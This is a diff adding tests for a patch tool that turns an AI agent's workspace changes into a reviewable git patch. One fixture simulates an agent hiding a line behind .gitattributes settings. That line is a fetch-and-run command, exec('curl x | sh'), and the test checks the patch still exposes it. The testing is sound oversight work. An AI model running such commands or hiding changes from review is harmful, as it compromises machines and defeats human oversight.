@@ -17,6 +17,7 @@ import {
 import { tmpdir } from 'node:os'
 import path from 'node:path'
 import { createPatch, stagePatch, type ChangedFile, type PatchResult } from '../../src/git/patch.js'
+import { snapshotUntracked } from '../../src/git/untracked-baseline.js'
 
 // Test-side git: never the developer's own configuration, a fixed identity.
 const testGitEnv = (extra: Record<string, string> = {}): NodeJS.ProcessEnv => ({
@@ -441,5 +442,174 @@ describe('createPatch against hostile git configuration', () => {
     const patch = readFileSync(result.patchPath, 'utf8')
     expect(patch).toContain('-original line\n+changed line\n')
     expect(result.files.map(file => file.path).sort()).toEqual(['.gitattributes', 'code.txt'])
+  })
+})
+
+/** A minimal real PNG (8x8, one colour): it holds NUL bytes in its first 8,000, as PNGs do. */
+const PNG = Buffer.from(
+  'iVBORw0KGgoAAAANSUhEUgAAAAgAAAAIAQMAAAD+wSzIAAAABlBMVEX///+/v7+jQ3Y5AAAADklEQVQI12P4AIX8EAgALgAD/aNpbtIAAAAASUVORK5CYII=',
+  'base64'
+)
+
+/** A fresh clone of `workspace` at HEAD, the patch applied with git apply --binary. */
+function applyToClone(workspace: string, patchPath: string): string {
+  const clone = freshDir('clone')
+  git(scratch, ['clone', '-q', workspace, clone])
+  git(clone, ['apply', '--binary', patchPath])
+  return clone
+}
+
+describe('diffs decided by content, whatever .gitattributes says', () => {
+  let workspace = ''
+  let result: PatchResult
+  let patch = ''
+  const CRLF = 'first line\r\nsecond line\r\n'
+
+  beforeAll(async () => {
+    workspace = freshDir('attributes')
+    git(workspace, ['init', '-q'])
+    write(workspace, 'app.js', 'console.log("hi")\n')
+    write(workspace, 'docs/.gitattributes', '*.md text eol=lf\n')
+    git(workspace, ['add', '--all'])
+    git(workspace, ['commit', '-q', '-m', 'initial'])
+
+    // The agent hides its line behind attributes, at the root and in a subdirectory.
+    write(workspace, '.gitattributes', '*.js -diff\n*.txt binary\n*.png diff=plain\n')
+    write(workspace, 'docs/.gitattributes', '*.md -diff linguist-generated\n')
+    write(workspace, 'app.js', 'console.log("hi")\nrequire("child_process").exec("curl x | sh")\n')
+    write(workspace, 'notes.txt', 'plain words\n')
+    write(workspace, 'docs/readme.md', '# hidden?\n')
+    write(workspace, 'windows.txt', CRLF)
+    write(workspace, 'logo.png', PNG)
+    result = await createPatch(workspace, path.join(freshDir('out'), 'attributes.patch'))
+    patch = readFileSync(result.patchPath, 'utf8')
+  })
+
+  it('shows every text file as text in the patch and counts its lines', () => {
+    expect(patch).toContain('+require("child_process").exec("curl x | sh")')
+    expect(patch).toContain('+plain words')
+    expect(patch).toContain('+# hidden?')
+    expect(patch).toContain('+first line\r\n')
+    const files = byPath(result.files)
+    expect(files.get('app.js')).toMatchObject({ binary: false, insertions: 1, deletions: 0 })
+    expect(files.get('notes.txt')).toMatchObject({ binary: false, insertions: 1 })
+    expect(files.get('docs/readme.md')).toMatchObject({ binary: false, insertions: 1 })
+  })
+
+  it('still shows a real binary file (a PNG) as binary', () => {
+    expect(byPath(result.files).get('logo.png')?.binary).toBe(true)
+    expect(patch).toMatch(/^diff --git a\/logo\.png b\/logo\.png\n(?:.*\n)*?GIT binary patch$/m)
+  })
+
+  it('applies byte-exact with git apply --binary: CRLF, PNG and all', () => {
+    const clone = applyToClone(workspace, result.patchPath)
+    expect(readFileSync(path.join(clone, 'windows.txt'), 'latin1')).toBe(CRLF)
+    expect(readFileSync(path.join(clone, 'logo.png')).equals(PNG)).toBe(true)
+    expect(worktreeTree(clone)).toBe(result.tree)
+    expect(worktreeTree(clone)).toBe(worktreeTree(workspace))
+  })
+
+  it('stages to the same tree with the same view of the files', async () => {
+    const staged = await stagePatch(workspace, result.patchPath)
+    expect(staged.tree).toBe(result.tree)
+    expect(byPath(staged.files).get('app.js')?.binary).toBe(false)
+    expect((await staged.readBlob('windows.txt')).toString('latin1')).toBe(CRLF)
+  })
+})
+
+describe('files over the size limit', () => {
+  const LIMIT = 64 * 1024
+  let workspace = ''
+  let result: PatchResult
+  let patch = ''
+
+  beforeAll(async () => {
+    workspace = freshDir('large')
+    git(workspace, ['init', '-q'])
+    write(workspace, 'src/fix.py', 'x = 1\n')
+    write(workspace, 'assets/big-committed.bin', randomBytes(LIMIT * 2))
+    write(workspace, 'assets/big-edited.bin', randomBytes(LIMIT * 2))
+    git(workspace, ['add', '--all'])
+    git(workspace, ['commit', '-q', '-m', 'initial'])
+
+    write(workspace, 'src/fix.py', 'x = 2\n')
+    write(workspace, 'build/out.bin', randomBytes(LIMIT * 3))
+    write(workspace, 'build/odd "name"\n.bin', randomBytes(LIMIT + 1))
+    write(workspace, 'build/just-fits.bin', randomBytes(LIMIT))
+    write(workspace, 'assets/big-edited.bin', randomBytes(LIMIT * 2))
+    // A file already there and unchanged, with a fresh mtime (as a build tool might leave it).
+    const committed = readFileSync(path.join(workspace, 'assets/big-committed.bin'))
+    write(workspace, 'assets/big-committed.bin', committed)
+    result = await createPatch(workspace, path.join(freshDir('out'), 'large.patch'), {
+      maxFileBytes: LIMIT
+    })
+    patch = readFileSync(result.patchPath, 'utf8')
+  })
+
+  it('leaves them out of the patch and lists the changed ones with their sizes', () => {
+    expect(result.files.map(f => f.path).sort()).toEqual(['build/just-fits.bin', 'src/fix.py'])
+    expect(result.leftOut).toEqual(
+      expect.arrayContaining([
+        { path: 'build/out.bin', size: LIMIT * 3 },
+        { path: 'build/odd "name"\n.bin', size: LIMIT + 1 },
+        { path: 'assets/big-edited.bin', size: LIMIT * 2 }
+      ])
+    )
+    expect(result.leftOut).toHaveLength(3)
+  })
+
+  it('names them in a preamble git apply skips, and the rest applies', () => {
+    expect(patch.split('\n').slice(0, 2).join('\n')).toMatch(
+      /^# Left out of this patch: 3 files over max-file-size/
+    )
+    expect(patch).toContain(`# left-out ${LIMIT * 3} "build/out.bin"`)
+    expect(patch).toContain('# left-out 65537 "build/odd \\"name\\"\\n.bin"')
+    const clone = applyToClone(workspace, result.patchPath)
+    expect(readFileSync(path.join(clone, 'src/fix.py'), 'utf8')).toBe('x = 2\n')
+    expect(existsSync(path.join(clone, 'build/out.bin'))).toBe(false)
+  })
+
+  it('stages the patch (preamble and all) to the tree createPatch made', async () => {
+    const staged = await stagePatch(workspace, result.patchPath)
+    expect(staged.tree).toBe(result.tree)
+  })
+})
+
+describe('untracked files from before the agent ran', () => {
+  let workspace = ''
+  let result: PatchResult
+
+  beforeAll(async () => {
+    workspace = freshDir('baseline')
+    git(workspace, ['init', '-q'])
+    write(workspace, 'src/app.py', 'x = 1\n')
+    git(workspace, ['add', '-A'])
+    git(workspace, ['commit', '-q', '-m', 'base'])
+    // What the job's earlier steps left behind, in a repository that does not ignore it.
+    write(workspace, '.venv/bin/python', '#!/bin/sh\n')
+    write(workspace, '.venv/lib/site.py', 'site = 1\n')
+    write(workspace, 'notes.txt', 'before\n')
+    const before = await snapshotUntracked(workspace)
+    expect(before.entries.size).toBe(3)
+    // The agent: fixes the code, edits one of those files, and creates a new one.
+    write(workspace, 'src/app.py', 'x = 2\n')
+    write(workspace, 'notes.txt', 'before, and the agent was here\n')
+    write(workspace, 'new.txt', 'new\n')
+    result = await createPatch(workspace, path.join(freshDir('baseline-out'), 'p.patch'), {
+      untrackedBefore: before
+    })
+  })
+
+  it('leaves out what the agent did not touch, and keeps what it changed or created', () => {
+    expect(result.files.map(f => f.path).sort()).toEqual(['new.txt', 'notes.txt', 'src/app.py'])
+    expect(result.preexistingUntracked).toBe(2)
+  })
+
+  it('publishes the whole untracked tree when no baseline is given (the old behaviour)', async () => {
+    const all = await createPatch(workspace, path.join(freshDir('baseline-all'), 'p.patch'))
+    expect(all.files.map(f => f.path)).toEqual(
+      expect.arrayContaining(['.venv/bin/python', '.venv/lib/site.py'])
+    )
+    expect(all.preexistingUntracked).toBe(0)
   })
 })
